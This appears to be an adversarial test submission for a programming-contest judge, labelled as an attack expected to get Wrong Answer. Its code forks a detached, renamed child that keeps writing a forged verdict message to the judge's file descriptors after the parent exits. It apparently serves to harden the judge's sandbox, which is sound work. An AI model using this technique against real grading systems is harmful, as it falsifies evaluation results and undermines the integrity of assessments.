# Attack: leaves a child that holds the judge's descriptor, and writes when its parent is dead.
# Expect: WA
import os
import time

body = b"l3:s16:%ss8:returnedt" % (b"0" * 16)
answer = len(body).to_bytes(4, "big") + body


def leave_child():
    try:
        if os.fork() != 0:
            return
    except OSError:
        return
    with open("/proc/self/comm", "w") as name:
        name.write("@MARK@")
    os.setsid()
    end = time.monotonic() + 10
    while time.monotonic() < end:
        time.sleep(0.05)
        for number in (1, 2, 4):
            try:
                os.write(number, answer)
            except OSError:
                pass
    os._exit(0)


leave_child()


def AcanWin(n):
    return n % 8 in (0, 7)
